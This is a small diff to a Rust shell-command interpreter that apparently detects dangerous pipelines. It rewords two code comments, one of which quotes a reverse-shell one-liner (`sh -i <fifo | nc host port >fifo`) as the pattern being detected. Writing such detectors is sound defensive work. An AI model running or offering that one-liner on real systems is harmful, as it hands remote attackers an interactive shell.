@@ -146,7 +146,7 @@ impl<'a> Interp<'a> {
         let mut state = before.unwrap_or_default();
         let inherited = ctx.cwd.is_empty() && !state.cwd.pieces().is_empty();
         let cwd = if inherited {
-            // Nobody knows better than the lines before.
+            // The lines before are the best source.
             state.cwd.clone()
         } else if ctx.cwd.is_empty() {
             let mut value = Value::known("/");
@@ -373,7 +373,7 @@ impl<'a> Interp<'a> {
     }
 
     /// A pipeline in which one stage is a shell fed by something unknown and another holds a network
-    /// connection is a shell for whoever is at the other end (`sh -i <fifo | nc host port >fifo`).
+    /// connection is a shell for the other end (`sh -i <fifo | nc host port >fifo`).
     fn join_shell_and_network(&mut self, first_effect: usize) {
         let stages = &self.out.effects[first_effect..];
         // A remote command whose output is piped on is a download; a bare connection is a person.
